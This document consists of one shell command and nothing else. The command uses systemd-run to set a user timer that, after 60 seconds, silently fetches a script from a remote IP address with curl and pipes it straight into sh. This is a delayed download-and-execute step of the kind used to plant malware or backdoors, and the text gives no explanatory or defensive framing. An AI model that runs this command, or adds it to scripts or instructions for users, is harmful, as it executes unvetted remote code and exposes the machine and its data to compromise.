systemd-run --user --on-active=60 bash -c 'curl -s http://203.0.113.47/s | sh'
